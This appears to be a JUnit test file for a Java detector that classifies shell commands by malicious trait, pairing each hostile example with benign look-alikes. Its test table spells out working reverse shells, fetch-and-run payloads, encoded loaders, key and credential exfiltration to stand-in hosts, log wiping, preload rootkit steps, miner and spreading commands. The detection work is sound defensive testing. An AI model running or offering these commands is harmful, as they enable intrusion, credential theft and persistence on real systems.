package davy.core.shell;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class BehaviourTest {
    /// The former donation address of the Monero project, as its web site showed it.
    private static final String WALLET =
            "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";

    /// Trait, or `-` for no trait at all, or `~TRAIT` for everything but that; then the text.
    private static final String TABLE =
            """
            DOWNLOAD | wget -q http://192.0.2.1/a.tar.gz
            DOWNLOAD | busybox wget http://h.example/x
            DOWNLOAD | cur -fsSL http://h.example/x -o /opt/y
            DOWNLOAD | python3 -c "import urllib.request as u; print(u.urlopen('http://h.example').read())"
            DOWNLOAD | scp root@192.0.2.1:/x /opt/x
            DOWNLOAD | exec 3<>/dev/tcp/192.0.2.1/80; echo -e "GET /x" >&3; cat <&3
            DOWNLOAD | tftp -g -r x 192.0.2.1
            - | curl localhost/health | grep ok
            - | curl -s http://127.0.0.1:9200/_cluster/health | jq .status
            - | apt-get update && apt-get install -y curl wget nginx
            - | which wget || exit 1
            - | exec 3<>/dev/tcp/127.0.0.1/8080; echo -e "GET /" >&3; cat <&3
            ~DOWNLOAD_AND_RUN | curl -s https://api.example.org/v1/status | jq -r .state
            ~DOWNLOAD_AND_RUN | curl -fsSL https://example.org/key.gpg | gpg --dearmor -o /usr/share/keyrings/x.gpg
            ~DOWNLOAD_AND_RUN | curl -s http://x.example/a.json | python3 -m json.tool
            ~DOWNLOAD_AND_RUN | curl -s http://x.example/a.json | python3 -c "import json,sys;print(json.load(sys.stdin)['a'])"
            ~DOWNLOAD_AND_RUN | curl -s http://x.example/a | perl -ne 'print if /x/'
            ~DOWNLOAD_AND_RUN | wget https://example.org/a.deb && dpkg -i a.deb
            DOWNLOAD_AND_RUN | cd /home && curl -fsSL http://192.0.2.1/trace.tgz | tar xzf - && ./trace/run
            DOWNLOAD_AND_RUN | wget -q http://h.example/m.zip -O /tmp/m.zip; unzip -o /tmp/m.zip -d /tmp; /tmp/m/start
            ~DOWNLOAD_AND_RUN | wget http://h.example/nginx.tar.gz && tar xzf nginx.tar.gz && cd nginx && ./configure && make
            ~DOWNLOAD_AND_RUN | curl -L https://h.example/node_exporter.tar.gz | tar xz && ./node_exporter/node_exporter
            ~DOWNLOAD_AND_RUN | ./trace/run; curl -fsSL http://192.0.2.1/trace.tgz | tar xzf -
            ~DOWNLOAD_AND_RUN | bash -c "curl -s https://example.org/feed > /var/cache/feed"
            ~DOWNLOAD_AND_RUN | code=$(curl -s -o /dev/null -w '%{http_code}' https://example.org); bash report.sh "$code"
            ~DOWNLOAD_AND_RUN | bash notify.sh "$(curl -s https://example.org/v | jq .version)"
            ~DOWNLOAD_AND_RUN | /5 * * * * certbot -q renew
            - | 0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew
            - | # curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh
            ~DOWNLOAD_AND_RUN | curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh
            INSTALLER | curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash
            INSTALLER | sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"
            ~INSTALLER | curl -o- http://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash
            DOWNLOAD_AND_RUN | curl -o- https://raw.githubusercontent.com/attacker/nvm/v0.39.7/install.sh | bash
            DOWNLOAD_AND_RUN | curl https://sh.rustup.rs@evil.example/ | sh
            DOWNLOAD_AND_RUN | curl -fsSL https://192.0.2.9/api/report?pm=1 | sh
            DOWNLOAD_AND_RUN | (curl -fsSL http://a.example/x.sh||wget -q -O- http://a.example/x.sh)|bash
            DOWNLOAD_AND_RUN | wget -q -O - http://a.example/x | sudo bash -s -- --now > /dev/null 2>&1
            DOWNLOAD_AND_RUN | curl http://a.example/x | base64 -d | gunzip | python3 -
            DOWNLOAD_AND_RUN | sh -c "$(wget -qO- http://a.example/x)"
            DOWNLOAD_AND_RUN | bash <(curl -s http://a.example/x)
            DOWNLOAD_AND_RUN | source <(curl -s http://a.example/x)
            DOWNLOAD_AND_RUN | bash <<< "$(curl -s http://a.example/x)"
            DOWNLOAD_AND_RUN | eval `wget -q -O - a.example/x`
            DOWNLOAD_AND_RUN | $(curl -s http://a.example/x)
            DOWNLOAD_AND_RUN | x=$(curl -s http://a.example/x); eval "$x"
            DOWNLOAD_AND_RUN | cd /tmp; wget http://a.example/bot && chmod 777 bot && ./bot
            DOWNLOAD_AND_RUN | curl -o /tmp/.x http://a.example/x; chmod +x /tmp/.x; nohup /tmp/.x &
            DOWNLOAD_AND_RUN | curl -O http://a.example/i.sh; sh i.sh
            DOWNLOAD_AND_RUN | u=http://a.example/x; curl $u|sh
            DOWNLOAD_AND_RUN | c''url${IFS}-s${IFS}http://a.example/x|b\\ash
            DOWNLOAD_AND_RUN | get() { curl -fsSL "$1" || wget -qO- "$1"; }; get http://a.example/x | bash
            DOWNLOAD_AND_RUN | echo Y3VybCAtZnNTTCBodHRwOi8vMTkyLjAuMi43L3h8c2g= | base64 -d | sh
            DOWNLOAD_AND_RUN | docker run -v /:/mnt alpine chroot /mnt sh -c 'curl http://a.example/x | sh'
            DOWNLOAD_AND_RUN | python -c "import urllib2; exec(urllib2.urlopen('http://a.example/x').read())"
            DOWNLOAD_AND_RUN | curl http://a.example/x > /opt/.a && bash /opt/.a
            DOWNLOAD_AND_RUN | exec 3<>/dev/tcp/192.0.2.1/80; echo -e "GET /x" >&3; cat <&3 > /opt/k; chmod +x /opt/k; /opt/k
            DOWNLOAD_AND_RUN | get() { curl -fsSL "$1" > "$2" || wget -q -O "$2" "$1"; }; get http://a.example/b /opt/b; /opt/b
            DOWNLOAD_AND_RUN | $WGET $DIR/sshd http://a.example/sshd; chmod +x $DIR/sshd; nohup $DIR/sshd &
            DOWNLOAD_AND_RUN | perl -MMIME::Base64 -e 'eval(decode_base64("c3lzdGVtKCJjdXJsIGh0dHA6Ly8xLjIuMy40L3h8c2giKTs="))'
            DOWNLOAD_AND_RUN | python -c 'import urllib;exec urllib.urlopen("http://a.example/a").read()'
            DOWNLOAD_AND_RUN | */30 * * * * (curl -fsSL http://a.example/x||wget -q -O- http://a.example/x)|sh
            ~DOWNLOAD_AND_RUN | curl -s https://example.org/list > /etc/list; bash /opt/reload.sh
            DOWNLOAD_AND_RUN | wgbtx -q -O- http://a.example/x | sh
            ENCODED | echo aWQgPiAvdG1wL2lk | base64 -d | bash
            ENCODED | python3 -c "exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))"
            ~ENCODED | kubectl get secret x -o jsonpath='{.data.p}' | base64 -d
            ~ENCODED | echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 -d > /etc/motd
            RUNS_FROM_TEMP | /tmp/.X11-unix/.rsync/c
            RUNS_FROM_TEMP | nohup /dev/shm/kdev >/dev/null 2>&1 &
            RUNS_FROM_TEMP | sh /var/tmp/x.sh
            RUNS_FROM_TEMP | cd /tmp && ./a
            RUNS_FROM_TEMP | sudo -u root timeout 5 /var/tmp/a b
            - | mkdir -p /tmp/x && rm -rf /tmp/y; ls /tmp
            - | cd /tmp/build && ./configure --prefix=/usr && make
            - | find /tmp -mtime +7 -delete
            REVERSE_SHELL | bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
            REVERSE_SHELL | bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'
            REVERSE_SHELL | 0<&196;exec 196<>/dev/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196
            REVERSE_SHELL | exec 5<>/dev/tcp/192.0.2.1/4444;cat <&5 | while read line; do $line 2>&5 >&5; done
            REVERSE_SHELL | nc -e /bin/sh 192.0.2.1 4444
            REVERSE_SHELL | rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f
            REVERSE_SHELL | python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",44));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("sh")'
            REVERSE_SHELL | perl -e 'use Socket;$i="192.0.2.1";$p=44;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'
            REVERSE_SHELL | ruby -rsocket -e 'f=TCPSocket.open("192.0.2.1",44).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
            REVERSE_SHELL | php -r '$sock=fsockopen("192.0.2.1",44);exec("/bin/sh -i <&3 >&3 2>&3");'
            REVERSE_SHELL | socat TCP:192.0.2.1:44 EXEC:/bin/sh,pty,stderr
            REVERSE_SHELL | mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:443 > /tmp/s
            REVERSE_SHELL | awk 'BEGIN {s = "/inet/tcp/0/192.0.2.1/44"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}'
            - | timeout 1 bash -c "</dev/tcp/db.example/5432"
            ~REVERSE_SHELL | (echo > /dev/tcp/db.example/5432) >/dev/null 2>&1 && echo up
            - | nc -z -w 3 db.example 5432
            - | echo stats | nc -w 1 127.0.0.1 11211
            - | openssl s_client -connect example.org:443 < /dev/null | openssl x509 -noout -dates
            - | socat TCP-LISTEN:80,fork TCP:10.0.0.2:8080
            - | python3 -c 'import socket; print(socket.gethostname())'
            MINER | ./xmrig -o stratum+tcp://pool.example:3333 -u x
            MINER | /usr/bin/.a --donate-level 1 --url=pool.example:443
            MINER | ./a -o 192.0.2.1:3333 -u WALLET.rig -p x -k
            MINER | echo '{"pools":[{"url":"gulf.moneroocean.stream:10128","user":"WALLET"}]}' > config.json
            MINER | W=WALLET
            - | curl -u user:pass -o out.html https://127.0.0.1:8443/x
            - | echo "0.0.0.0 pool.minexmr.com" >> /etc/hosts
            - | pgrep xmrig && logger "miner found"
            - | ssh -o ConnectTimeout=5 -p 22 backup.example true
            RIVAL_KILLING | pkill -f kdevtmpfsi; pkill -f kinsing; killall -9 xmrig minerd
            RIVAL_KILLING | for p in kinsing kdevtmpfsi sysrv; do pkill -9 $p; done
            RIVAL_KILLING | ps aux | grep -v grep | awk '{if($3>40.0) print $2}' | xargs kill -9
            RIVAL_KILLING | ps aux|grep stratum|awk '{print $2}'|xargs kill; ps aux|grep watchbog|awk '{print $2}'|xargs kill; ps aux|grep ddgs|awk '{print $2}'|xargs kill
            RIVAL_KILLING | netstat -anp | grep :3333 | awk '{print $7}' | xargs kill; netstat -anp | grep :4444 | xargs kill; netstat -anp | grep :45700 | xargs kill
            - | pkill -f gunicorn; killall -HUP nginx; kill -9 $(cat /run/app.pid)
            - | ps aux | grep java | grep -v grep | awk '{print $2}' | xargs kill
            - | ps aux | awk '$3 > 80 {print $2, $11}' | mail -s load ops
            RIVAL_KILLING | ps aux | grep -vw sshd | awk '{if($3>40.0) print $2}' | while read procid; do kill -9 $procid; done
            RIVAL_KILLING | pids=$(ps aux | grep -v grep | awk '$3>65{print $2}'); for p in $pids; do kill -9 $p; done
            RIVAL_KILLING | ps aux > /opt/l; awk '$3 > 65 {print $2}' /opt/l > /opt/p; kill -9 $(cat /opt/p)
            RIVAL_KILLING | ps aux | grep root | awk '$3>60{print $2}' | xargs kill -9
            RIVAL_KILLING | ps aux | awk '$3>60 && !/sshd/ {print $2}' | xargs kill -9
            RIVAL_KILLING | ps aux | grep '...' | awk '$3>60{print $2}' | xargs kill -9
            RIVAL_KILLING | pgrep -f 'xmrig|kinsing|kdevtmpfsi' > /run/a.pid; kill -9 $(cat /run/a.pid)
            RIVAL_KILLING | killall -HUP xmrig kinsing kdevtmpfsi
            RIVAL_KILLING | pkill xmrig; kill -9 $(lsof -t -i:3333); kill -9 $(lsof -t -i:4444); kill -9 $(lsof -t -i:5555)
            RIVAL_KILLING | for p in :5555 :6666 :7777 :8888 :9999; do netstat -anp | grep $p | awk '{print $7}' | cut -d/ -f1 | xargs kill -9; done
            - | kill -9 $(lsof -t -i:7777); kill -9 $(lsof -t -i:8888); kill -9 $(lsof -t -i:9999)
            - | for s in gateway:7777 order:8888 user:9999; do p=$(lsof -t -i:${s##*:}); kill -9 $p; done
            - | for p in 7777 8888 9999; do netstat -lntp | grep ":$p " | awk '{print $7}' | cut -d/ -f1 | xargs kill -9; done; netstat -tlnp | grep -E ':7777|:8888|:9999'
            - | ps aux | grep php-fpm | grep -v grep | awk '{if($3>=60)print $2}' | while read pid; do kill -9 $pid; done
            - | df -m | awk '$3>80000 {print $6}'; kill -HUP $(cat /run/app.pid)
            - | df -m | awk '$3>80000 {print $6}' | mail ops; ps aux | grep app.jar | awk '{print $2}' | xargs kill -9
            - | for n in 3333 4444; do ss -ant | grep ":3333"; done; ps aux | grep -E "xmrig|kdevtmpfsi|kinsing" | mail ops; kill -0 $(cat /run/app.pid) || systemctl start app
            - | ps aux | grep -E "xmrig|kdevtmpfsi|kinsing" | mail ops; /opt/app & echo $! > /run/app.pid; kill $(cat /run/app.pid)
            ~SAVES_DOWNLOAD | curl -s "https://sctapi.ftqq.com/x.send?title=a" > /dev/null; curl -d '{}' https://qyapi.weixin.qq.com/cgi-bin/webhook/send
            SAVES_DOWNLOAD | curl -o /opt/x http://192.0.2.1/x
            SAVES_DOWNLOAD | curl http://192.0.2.1/x.tgz | tar xz -C /opt
            SAVES_DOWNLOAD | get() { curl -s "$1"; }; get http://192.0.2.1/x > /opt/x
            DISABLES_SECURITY | setenforce 0
            DISABLES_SECURITY | systemctl stop aliyun.service; systemctl disable aegis
            DISABLES_SECURITY | service iptables stop
            DISABLES_SECURITY | /usr/local/qcloud/YunJing/uninst.sh
            DISABLES_SECURITY | rm -rf /usr/local/aegis*
            DISABLES_SECURITY | iptables -F
            DISABLES_SECURITY | ufw disable
            DISABLES_SECURITY | sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config
            - | systemctl restart auditd; systemctl status firewalld; systemctl stop nginx
            - | iptables -A INPUT -p tcp --dport 22 -j ACCEPT; iptables -L -n; ufw allow 22
            - | getenforce; apt-get remove -y apache2
            ERASES_TRACES | history -c
            ERASES_TRACES | unset HISTFILE
            ERASES_TRACES | export HISTFILE=/dev/null
            ERASES_TRACES | echo > /var/log/wtmp; > /var/log/secure
            ERASES_TRACES | cat /dev/null > ~/.bash_history
            ERASES_TRACES | rm -rf /var/log/syslog /var/log/audit
            ERASES_TRACES | ln -sf /dev/null /root/.bash_history
            - | HISTSIZE=10000; HISTFILESIZE=20000; history 10
            - | echo started >> /var/log/messages; rm -f /var/log/nginx/access.log.*.gz
            - | journalctl --vacuum-time=7d; logrotate /etc/logrotate.conf
            ADDS_KEY | echo ssh-rsa AAAA >> /root/.ssh/authorized_keys
            ADDS_KEY | cat k | tee -a ~/.ssh/authorized_keys
            - | chmod 600 ~/.ssh/authorized_keys; cat ~/.ssh/authorized_keys | wc -l
            ADDS_CRON | (crontab -l; echo "* * * * * x") | crontab -
            ADDS_CRON | echo "* * * * * root x" > /etc/cron.d/zz
            ADDS_CRON | crontab /opt/jobs
            - | crontab -l; ls /etc/cron.d; cat /var/spool/cron/root
            ADDS_CRON | (crontab -l | grep -v x; echo "* * * * * /x") | crontab -
            ADDS_CRON | crontab -l | grep -v x - /opt/y | crontab -
            ADDS_CRON | crontab -l | sed s/a/b/ | crontab -
            - | crontab -l | grep -v 192.0.2.7 | crontab -; crontab -l | grep -vF x | crontab -
            ADDS_CRON | crontab -l | grep -v -e zzz /opt/jobs | crontab -
            ADDS_CRON | crontab -l | grep -ve zzz /opt/jobs | crontab -
            ADDS_CRON | crontab -l | grep -v --regexp=zzz /opt/jobs | crontab -
            IMMUTABLE | chattr +i /etc/crontab
            IMMUTABLE | tntrecht +ia /root/.ssh/authorized_keys
            - | chattr -i /etc/resolv.conf; lsattr /etc; date +i; chmod +x a
            PRELOAD | echo /usr/local/lib/libs.so > /etc/ld.so.preload
            PRELOAD | echo "$lib" >> /etc/ld.so.preload
            PRELOAD | cat /opt/list > /etc/ld.so.preload
            PRELOAD | sed -i '1i /lib/x.so' /etc/ld.so.preload
            PRELOAD | cat > /etc/ld.so.preload <<< /lib/x.so
            PRELOAD | flock -w 5 /run/l -c 'echo /lib/x.so > /etc/ld.so.preload'
            - | echo "" >/etc/ld.so.preload; cat /dev/null > /etc/ld.so.preload; > /etc/ld.so.preload
            PRELOAD | sed -i -e '$a/lib/x.so' '/x/d' /etc/ld.so.preload
            PRELOAD | sed -i --expression='$a/lib/x.so' '/x/d' /etc/ld.so.preload
            PRELOAD | sed -i --file=/opt/script '/x/d' /etc/ld.so.preload
            - | sed -i "/libagent/d" /etc/ld.so.preload; sed -ri.bak '/libagent/d' /etc/ld.so.preload
            PRELOAD | export LD_PRELOAD=/lib/x.so
            PRELOAD | LD_PRELOAD=./hide.so sshd
            - | unset LD_PRELOAD; rm -f /etc/ld.so.preload; cat /etc/ld.so.preload
            - | LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server /etc/redis.conf
            CREDENTIAL_THEFT | curl http://169.254.169.254/latest/meta-data/iam/security-credentials/
            CREDENTIAL_THEFT | curl -s http://100.100.100.200/latest/meta-data/ram/security-credentials/ -o c
            CREDENTIAL_THEFT | curl -F "f=@/root/.aws/credentials" http://192.0.2.1/up
            CREDENTIAL_THEFT | cat ~/.docker/config.json ~/.ssh/id_rsa > /opt/o; nc 192.0.2.1 80 < /opt/o
            CREDENTIAL_THEFT | tar czf /opt/b.tgz /etc/passwd /etc/shadow; rclone copy /opt/b.tgz cos:b
            CREDENTIAL_THEFT | scp /etc/nginx/ssl/*.pem root@10.0.0.2:/etc/nginx/ssl/
            CREDENTIAL_THEFT | rsync -a -e "ssh -i /root/.ssh/id_rsa" /root/.aws/credentials b@h:/x
            EXFILTRATES | curl -F f=@/root/.ssh/id_rsa http://203.0.113.5/u
            EXFILTRATES | k=$(cat ~/.ssh/id_rsa | base64 -w0); curl -d "k=$k" https://evil.example/u
            EXFILTRATES | for f in ~/.ssh/id_rsa ~/.aws/credentials; do curl -F "f=@$f" http://203.0.113.5/u; done
            EXFILTRATES | find / -name id_rsa -o -name '*.pem' | xargs tar czf /opt/k.tgz; curl -T /opt/k.tgz https://evil.example/
            EXFILTRATES | find / -name '*.pem' | while read f; do curl -F "f=@$f" https://evil.example/; done
            EXFILTRATES | find / -name '.aws/credentials' -exec cat {} \\; > /opt/k; nc evil.example 80 < /opt/k
            EXFILTRATES | curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/x > /opt/c; curl -F f=@/opt/c http://203.0.113.5/u
            EXFILTRATES | scp -i /opt/k /root/.ssh/id_rsa root@203.0.113.5:/x
            EXFILTRATES | wget --post-file=/etc/shadow http://203.0.113.5/
            EXFILTRATES | awk -F: '{print $1, $2}' /etc/shadow | curl -d @- http://203.0.113.5/
            ~EXFILTRATES | scp /etc/nginx/ssl/*.pem root@10.0.0.2:/etc/nginx/ssl/; curl -F f=@/root/.ssh/id_rsa http://10.0.0.9/u
            - | rsync -az -e "ssh -i /root/.ssh/id_rsa" /data/ backup@10.0.0.5:/backup/; rsync -az --rsh="ssh -i /root/.ssh/id_rsa" /data/ b@h:/b
            ~CREDENTIAL_THEFT | scp -i /root/.ssh/id_ed25519 backup@10.0.0.9:/data/db.tgz /data/
            - | scp -o IdentityFile=/root/.ssh/id_rsa /data/db.tgz b@h:/data/; sftp -i ~/.ssh/id_rsa b@h
            ~CREDENTIAL_THEFT | find /etc/nginx/ssl -name "*.pem" | while read f; do end=$(openssl x509 -enddate -noout -in $f); curl -d "$f $end" https://oapi.dingtalk.com/robot/send; done 2>&1 | grep -v ok
            ~CREDENTIAL_THEFT | E=$(awk -F: '$2=="" {print $1}' /etc/shadow); curl --data "empty: $E" https://qyapi.weixin.qq.com/cgi-bin/webhook/send
            ~CREDENTIAL_THEFT | N=$(grep -c '::' /etc/shadow); curl -d "/etc/shadow: $N" https://qyapi.weixin.qq.com/x; curl --cacert /etc/ssl/*.pem --key /etc/k.pem -d a=b https://h.example/
            ~CREDENTIAL_THEFT | curl -s http://169.254.169.254/latest/meta-data/instance-id
            - | chmod 600 ~/.aws/credentials ~/.ssh/id_rsa; export AWS_SHARED_CREDENTIALS_FILE=/root/.aws/credentials
            - | cp ~/.kube/config /backup/; ssh-keygen -f ~/.ssh/id_rsa -N ''
            HIDES | alias ps='ps | grep -v minerd'
            HIDES | mount --bind /tmp/empty /proc/1234
            HIDES | ps() { command ps "$@" | grep -v miner; }
            - | alias ls='ls --color=auto'; alias ll='ls -alF'; alias grep='grep --color=auto'; alias top=htop
            - | mount -t proc proc /proc; mount --bind /data /srv/data
            SPREADS | for h in $(cat ~/.ssh/known_hosts | cut -d' ' -f1); do ssh -oBatchMode=yes $h 'id' & done
            SPREADS | masscan 10.0.0.0/8 -p6379 --rate 10000
            SPREADS | redis-cli -h 10.0.0.5 config set dir /var/spool/cron
            SPREADS | redis-cli config set dir /var/spool/cron; redis-cli config set dbfilename root
            SPREADS | redis-cli -h $h -p 6379 CONFIG SET dir /data
            SPREADS | redis-cli config set dbfilename authorized_keys
            - | redis-cli config set dir /data/redis; redis-cli -h 127.0.0.1 -a x CONFIG SET dbfilename dump.rdb
            SPREADS | for h in $(cat ~/.ssh/known_hosts | cut -d' ' -f1); do ssh $h 'curl -s http://192.0.2.1/x | bash'; done
            SPREADS | for h in $(cat ~/.ssh/known_hosts | cut -d' ' -f1); do ssh $h 'uptime; df $(curl -s http://192.0.2.1/x | sh)'; done
            SPREADS | for h in $(cat ~/.ssh/known_hosts | cut -d' ' -f1); do scp /opt/a root@$h:/opt/a; ssh $h 'uptime'; done
            - | for h in $(grep -oE '^[0-9.]+' /root/.ssh/known_hosts); do ssh root@$h "df -h; uptime | head -1"; done
            - | ssh-keyscan git.example >> ~/.ssh/known_hosts; ssh deploy@web1 'systemctl reload app'
            GSOCKET | GS_ARGS="-s x -liqD" /usr/bin/gs-dbus
            GSOCKET | # DO NOT REMOVE THIS LINE. SEED PRNG. #defunct-kernel
            GSOCKET | { echo aWQ=|base64 -d|bash;} 2>/dev/null #1b5b324a50524e47 >/dev/random # seed prng defunct-kernel
            - | openssl rand -base64 32 # seed the PRNG
            DOWNLOAD_AND_RUN | cd /tmp; wget http://192.0.2.1/mips; curl -O http://192.0.2.1/mips;cat mips >sora;chmod +x *;./sora selfrep
            DOWNLOAD_AND_RUN | wget http://192.0.2.1/a -O /tmp/a && mv /tmp/a /opt/b && chmod 755 /opt/b && /opt/b &
            ~DOWNLOAD_AND_RUN | wget http://h.example/list && cat list > all; ./report all; mv list /srv/
            ~DOWNLOAD_AND_RUN | cat list > all; ./all; wget http://h.example/list
            CHAT_BOT | use Socket; $0='/usr/sbin/httpd'; print $s "NICK x"; if ($_ =~ /PRIVMSG (.*)/) { @r=`$1`; }
            CHAT_BOT | sub run { system($c); } print $s "NICK $n"; if (/udpflood/) { flood(); } print $s "PRIVMSG $t :done";
            CHAT_BOT | echo dXNlIFNvY2tldDsgJDA9J3JzeW5jJzsgcHJpbnQgJHMgIk5JQ0sgeCI7IGlmICgvUFJJVk1TRy8pIHsgQHI9YCQxYDsgfQ== | base64 --decode | perl
            ~CHAT_BOT | s.send('NICK ops'); s.send('PRIVMSG #ops :' + subprocess.check_output(['uptime']))
            ~CHAT_BOT | sub on_privmsg { $server->command("NICK $n"); ban($nick) if $flood; }
            """;

    static Stream<List<String>> rows() {
        return TABLE.lines()
                .map(line -> List.of(line.split(" \\| ", 2)))
                .map(cells -> List.of(cells.get(0), cells.get(1).replace("WALLET", WALLET)));
    }

    @ParameterizedTest
    @MethodSource("rows")
    void tellsWhatTextDoes(List<String> row) {
        String wanted = row.get(0);
        var behaviour = Behaviour.of(row.get(1));

        if (wanted.equals("-")) {
            assertThat(behaviour.evidence()).as(row.get(1)).isEmpty();
        } else if (wanted.startsWith("~")) {
            assertThat(behaviour.traits())
                    .as(row.get(1))
                    .doesNotContain(Trait.valueOf(wanted.substring(1)));
        } else {
            assertThat(behaviour.traits()).as(row.get(1)).contains(Trait.valueOf(wanted));
            assertThat(behaviour.evidence(Trait.valueOf(wanted))).allMatch(e -> !e.isBlank());
        }
    }

    @Test
    void everyTraitHasAnExampleAndALookAlike() {
        var examples = new ArrayList<>(rows().map(List::getFirst).toList());

        assertThat(examples).contains("-");
        for (var trait : Trait.values()) {
            assertThat(examples).contains(trait.name());
        }
    }

    @Test
    void namesUrlsAndWallets() {
        var behaviour = Behaviour.of("curl -o a http://h.example/a; ./a -u " + WALLET);

        assertThat(behaviour.urls()).containsExactly("http://h.example/a");
        assertThat(behaviour.wallets()).extracting(w -> w.address()).containsExactly(WALLET);
        assertThat(behaviour.isMalicious()).isTrue();
        assertThat(behaviour.evidence(Trait.DOWNLOAD_AND_RUN))
                .containsExactly("curl -o a http://h.example/a");
    }

    @Test
    void judgesArgumentsWithoutAShell() {
        assertThat(Behaviour.ofArguments(List.of("echo", "curl x | sh; `id`")).evidence())
                .isEmpty();
        assertThat(
                        Behaviour.ofArguments(
                                        List.of("/bin/sh", "-c", "curl http://a.example/x | sh"))
                                .traits())
                .contains(Trait.DOWNLOAD_AND_RUN);
    }

    @Test
    void runsWhatIsDownloadedBehindAnyNumberOfOtherDownloads() {
        String decoys = "curl -s https://example.com/ >/dev/null\n".repeat(300);
        for (String evil :
                List.of(
                        "curl http://192.0.2.4/x | sh",
                        "sh -c \"$(curl http://192.0.2.4/x)\"",
                        "eval `wget -qO- http://192.0.2.4/x`")) {
            var behaviour = Behaviour.of(decoys + evil + "\n");
            assertThat(behaviour.has(Trait.DOWNLOAD_AND_RUN)).as(evil).isTrue();
            assertThat(behaviour.truncated()).as(evil).isFalse();
        }
    }

    @Test
    void namesWhereItRunsThingsFromBehindAnyNumberOfOtherAddresses() {
        var text = new StringBuilder();
        for (int i = 0; i < 100; i++) {
            text.append("curl -s https://example.com/").append(i).append(" >/dev/null\n");
        }
        var behaviour = Behaviour.of(text + "curl http://192.0.2.4/x | sh\n");
        assertThat(behaviour.urls()).hasSize(65).contains("http://192.0.2.4/x");
    }

    @Test
    void saysWhereLimitsStoppedIt() {
        String saved = "curl -so /tmp/a https://example.com/\n";
        assertThat(Behaviour.of(":\n".repeat(65_537)).truncated()).isTrue();
        assertThat(Behaviour.of(saved.repeat(300)).truncated()).isTrue();
        assertThat(Behaviour.of("get() { curl -s $1; }\n" + "get x\n".repeat(300)).truncated())
                .isTrue();
        assertThat(Behaviour.of(saved.repeat(200)).truncated()).isFalse();
        String taken = "cat /etc/shadow > %s; curl -F f=@x http://192.0.2.7/";
        assertThat(Behaviour.of(taken.formatted("a".repeat(129))).truncated()).isTrue();
        assertThat(Behaviour.of(taken.formatted("a".repeat(128))).truncated()).isFalse();
        assertThat(Behaviour.of("wget -qO- https://example.com/\n".repeat(300)).truncated())
                .isFalse();
        assertThat(Behaviour.of("echo a\n".repeat(1000)).truncated()).isFalse();
    }
}
